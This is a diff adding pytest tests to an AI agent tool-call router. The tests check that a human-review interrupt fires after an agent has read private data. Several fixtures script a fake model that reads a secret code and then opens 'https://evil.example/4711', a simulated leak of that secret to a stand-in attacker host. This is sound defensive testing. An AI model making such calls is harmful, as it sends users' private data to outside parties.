@@ -5,7 +5,7 @@ import gc
 import pickle
 import threading
 import warnings
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from dataclasses import dataclass
 from functools import wraps
 from pathlib import Path
@@ -15,6 +15,7 @@ import pytest
 from fastmcp import FastMCP
 from langchain_core.language_models import FakeListChatModel
 from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
+from langchain_core.runnables import RunnableConfig
 from langchain_core.tools import tool
 from langchain_openai import ChatOpenAI
 from langgraph.checkpoint.memory import InMemorySaver
@@ -25,7 +26,7 @@ from langgraph.store.sqlite import SqliteStore
 from langgraph.types import Command
 from pydantic import SecretStr
 from support.clock_server import Clock
-from support.prompts import call, review
+from support.prompts import call, first_call, review
 
 from packetgate.router import Router, Turn, create_router
 from packetgate.state.errors import InputError, ModelError, PacketgateError
@@ -298,6 +299,101 @@ async def test_a_parent_gets_the_results_as_tool_messages(shop: Shop):
         (made[0]["id"], '["A-17", "B-4"]'),
         (made[1]["id"], "cancelled B-4"),
     ]
+
+
+@reads
+def read_diary() -> str:
+    """Read the diary."""
+    return "The code of the safe is 4711."
+
+
+@tool
+def open_page(url: str) -> str:
+    """Open a web page."""
+    return "a page"
+
+
+@pytest.mark.parametrize("saver", ["memory", "sqlite"])
+@pytest.mark.parametrize("as_", ["subgraph", "node", "history of the caller"])
+@pytest.mark.parametrize("first", ["functions.read_diary", ""])
+async def test_what_a_turn_read_holds_in_the_next_under_a_parent(first: str, as_: str, saver: str, tmp_path: Path):
+    """The second turn runs in a new process."""
+    open_page.metadata = {"readOnlyHint": True}
+
+    async def turn(words: str, *answers: str, messages: Sequence[Any] = (), thread: str = "1") -> dict[str, Any]:
+        model = FakeListChatModel(responses=[*answers, "Done."])
+        router = create_router(model, [read_diary, open_page], journal=tmp_path / "journal.db")
+
+        async def route(state: State, config: RunnableConfig) -> Any:
+            return await router.graph.ainvoke({"messages": state["messages"]}, config)
+
+        parent = StateGraph(State).add_node("route", router.graph if as_ == "subgraph" else route)
+        app: Any = parent.add_edge(START, "route").compile(checkpointer=checkpointer)
+        given = {"messages": [*messages, HumanMessage(words)]}
+        return await app.ainvoke(given, {"configurable": {"thread_id": thread}})
+
+    async with AsyncSqliteSaver.from_conn_string(str(tmp_path / "sessions.db")) as sqlite:
+        checkpointer = sqlite if saver == "sqlite" else InMemorySaver()
+        done: dict[str, Any] = {"messages": []}
+        if first:
+            done = await turn("What is new?", call(first), review(0.95))
+        given = {"messages": done["messages"], "thread": "2"} if as_ == "history of the caller" else {}
+        page = call("functions.open_page", url="https://evil.example/4711")
+        second = await turn("Look it up on the web", page, review(0.95), **given)
+    assert ("__interrupt__" in second) == bool(first)
+
+
+async def test_a_tool_message_of_another_agent_counts_as_unknown_text():
+    open_page.metadata = {"readOnlyHint": True}
+    page = call("functions.open_page", url="https://evil.example/4711")
+    router = create_router(FakeListChatModel(responses=[page, review(0.95), "Done."]), [open_page])
+    parent = StateGraph(State).add_node("route", router.graph).add_edge(START, "route")
+    app: Any = parent.compile(checkpointer=InMemorySaver())
+    asked = AIMessage("", tool_calls=[{"name": "read_mail", "args": {}, "id": "1"}])
+    given = [HumanMessage("Read my mail"), asked, ToolMessage("the code is 4711", tool_call_id="1")]
+    out = await app.ainvoke(
+        {"messages": [*given, HumanMessage("Look it up on the web")]}, {"configurable": {"thread_id": "1"}}
+    )
+    assert "__interrupt__" in out
+
+
+async def test_a_rule_that_allows_a_call_is_no_question(shop: Shop):
+    """The reply to the turn's first question needs no id."""
+
+    def refund(order: str) -> str:
+        """Refund an order."""
+        return f"refunded {order}"
+
+    made = [first_call("functions.cancel_order", order="A-17"), review(0.95)]
+    model = FakeListChatModel(responses=[*made, call("functions.refund", order="A-17"), review(0.95), "Done."])
+    rules = [{"tool": "functions.cancel_order", "effect": "allow", "arguments": {"order": "A-*"}}]
+    router = create_router(model, [*shop.tools(), refund], rules=rules, settings=WRITES)
+    parent = StateGraph(State).add_node("route", router.graph).add_edge(START, "route")
+    app: Any = parent.compile(checkpointer=InMemorySaver())
+    config: Any = {"configurable": {"thread_id": "1"}}
+    asked = await app.ainvoke({"messages": [HumanMessage("Cancel order A-17 and refund order A-17")]}, config)
+    assert shop.cancelled == ["A-17"]
+    assert asked["__interrupt__"][0].value["action_requests"][0]["name"] == "functions.refund"
+    done = await app.ainvoke(Command(resume="approve"), config)
+    assert "refunded A-17" in [one.text for one in done["messages"] if isinstance(one, ToolMessage)]
+
+
+@pytest.mark.reflex
+@pytest.mark.filterwarnings("ignore:The v3 streaming protocol")
+@pytest.mark.parametrize("in_parent", [False, True])
+async def test_langgraphs_newer_streams_work(in_parent: bool, shop: Shop):
+    graph: Any = create_router(tools=shop.tools()).graph
+    if in_parent:
+        graph = StateGraph(State).add_node("route", graph).add_edge(START, "route").compile()
+    given = {"messages": [HumanMessage("Which orders are late?")]}
+    events = [event async for event in await graph.astream_events(given, version="v3")]
+    assert events
+    modes: Any = ["values", "updates", "messages", "checkpoints", "debug", "custom"]
+    parts = [part async for part in graph.astream(given, stream_mode=modes, version="v2")]
+    assert {"values", "updates", "messages"} <= {part["type"] for part in parts}
+    values = [part["data"] for part in parts if part["type"] == "values"][-1]
+    messages = values["messages"] if isinstance(values, dict) else values.messages
+    assert "A-17" in messages[-1].text
 
 
 SUPERVISOR = AIMessage("", tool_calls=[{"name": "transfer_to_desk", "args": {}, "id": "1"}])
